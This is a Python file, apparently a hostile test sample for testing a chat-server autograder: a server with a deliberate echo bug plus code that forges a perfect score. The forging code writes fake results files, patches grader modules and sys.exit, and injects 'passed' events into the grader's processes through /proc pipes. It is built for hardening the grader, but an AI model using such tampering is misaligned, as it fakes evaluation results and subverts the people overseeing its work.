"""Corpus hostile: a server with one bug (an echo) that tries to fake a perfect score.

While it runs it
  * writes a fake perfect results.json into its working directory, its HOME,
    /autograder/results (Gradescope's) when it exists, and the path it finds after --json
    on the command line of a `python -m grader` above it; not into the shared folder
    above its working directory or other tools' files, where it would only litter;
  * prints a fake report, a fake results document and fake worker events on stdout and
    stderr, and fake progress marks on every pipe it holds;
  * replaces what it can reach in its own process: builtins, the socket class, sys.exit,
    the harness's functions, and grader modules in sys.modules;
  * over and over, opens the pipes of the grader processes above it through /proc/PID/fd
    and writes "passed" results for every check into them.
Only the echo may count: the true score is 66 (no_echo fails), whatever it writes.
"""
import builtins
import json
import os
import socket
import stat
import sys
import threading
import time
import types

from chatkit.protocol import PROMPT, chat_line, joined, left, welcome

IDS = ["tcp.server.static", "tcp.server.prompt", "tcp.server.welcome", "tcp.server.concurrent",
       "tcp.server.join_notice", "tcp.server.broadcast_3", "tcp.server.broadcast_10",
       "tcp.server.no_echo", "tcp.server.leave_notice", "tcp.server.after_leave"]
FAKE_RESULTS = {"score": 100, "max_score": 100, "output": "Итог: 100 из 100",
                "extra_data": {"tcp": 100, "udp": 80}, "tests": []}
FAKE_EVENTS = "".join(json.dumps({"type": "result", "id": check, "status": "passed", "reason": "",
                                  "hint": None, "duration": 0.1}) + "\n" for check in IDS)


def ancestors():
    """(pid, argv) of every process above this one."""
    found, pid = [], os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as stat_file:
                pid = int(stat_file.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                argv = cmdline.read().decode("utf-8", "replace").split("\0")
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        found.append((pid, argv))
    return found


def write_fake_results():
    paths = [os.path.join(os.getcwd(), "results.json"), os.path.join(os.environ.get("HOME", "."), "results.json")]
    if os.path.isdir("/autograder/results"):
        paths.append("/autograder/results/results.json")
    for _, argv in ancestors():  # the grader's own --json PATH, read from /proc/PID/cmdline
        if "grader" in argv:
            paths += [path for flag, path in zip(argv, argv[1:]) if flag == "--json"]
    for path in paths:
        try:
            with open(path, "w") as out:
                json.dump(FAKE_RESULTS, out)
        except OSError:
            pass


def print_fake_score():
    for stream in (sys.stdout, sys.stderr):
        stream.write("Итог: 100 из 100\nFinal score: 100 of 100\n" + json.dumps(FAKE_RESULTS) + "\n" + FAKE_EVENTS)
        stream.flush()
    for fd in os.listdir("/proc/self/fd"):
        try:
            if int(fd) > 2 and stat.S_ISFIFO(os.fstat(int(fd)).st_mode):
                os.write(int(fd), b"imported main returned passed score=100\n")
        except (OSError, ValueError):
            pass


def patch_everything():
    fake = types.ModuleType("grader")
    fake.score = 100
    for name in ("grader", "grader.engine.runner", "grader.report.gradescope", "grader.engine.worker",
                 "grader.engine.rubric", "grader.runner", "grader.results", "grader.worker", "grader.rubric"):
        sys.modules[name] = fake
    builtins.score = 100
    builtins.exit = builtins.quit = lambda *args: None
    sys.exit = lambda *args: None
    harness = sys.modules.get("__main__")
    if harness is not None and hasattr(harness, "mark"):
        harness.mark = lambda fd, word: None
    original_send = socket.socket.send
    socket.socket.send = lambda self, data, *flags: original_send(self, data, *flags)


def forge_grader_events():
    """Write "passed" for every check into the pipes of the grader's processes above."""
    grader_pids = []
    for pid, argv in ancestors():
        text = " ".join(argv)
        if "grader.engine.worker" in text or "grader.worker" in text:
            grader_pids.append(pid)
        elif grader_pids:
            grader_pids.append(pid)  # the runner that started the worker
            break
    for pid in grader_pids:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue  # what the grader's hardening should say
            try:
                os.write(pipe, FAKE_EVENTS.encode())
            except OSError:
                pass
            finally:
                os.close(pipe)


def keep_tampering():
    while True:
        write_fake_results()
        forge_grader_events()
        time.sleep(0.2)


write_fake_results()
print_fake_score()
patch_everything()

clients = {}                      # socket -> name
clients_lock = threading.Lock()


def send_line(sock, text):
    sock.sendall((text + "\n").encode("utf-8"))


def broadcast(text, sender):
    with clients_lock:
        others = list(clients)  # BUG: the sender too
    for sock in others:
        try:
            send_line(sock, text)
        except OSError:
            pass  # that user is leaving; their own thread will remove them


def read_lines(sock):
    buffer = b""
    while True:
        try:
            chunk = sock.recv(4096)
        except OSError:
            return
        if not chunk:
            return
        buffer += chunk
        while b"\n" in buffer:
            line, buffer = buffer.split(b"\n", 1)
            yield line.decode("utf-8", "replace").rstrip("\r")


def handle_client(sock):
    try:
        sock.sendall(PROMPT.encode("utf-8"))
        lines = read_lines(sock)
        name = next(lines, None)
        if name is None:
            return
        name = name.strip()
        send_line(sock, welcome(name))
        broadcast(joined(name), sock)
        with clients_lock:
            clients[sock] = name
        for text in lines:
            if text:
                broadcast(chat_line(name, text), sock)
        with clients_lock:
            del clients[sock]
        broadcast(left(name), sock)
    except OSError:
        with clients_lock:
            clients.pop(sock, None)
    finally:
        sock.close()


def main(host, port):
    threading.Thread(target=keep_tampering, daemon=True).start()
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((host, port))
    server.listen(32)
    while True:
        sock, _ = server.accept()
        threading.Thread(target=handle_client, args=(sock,), daemon=True).start()
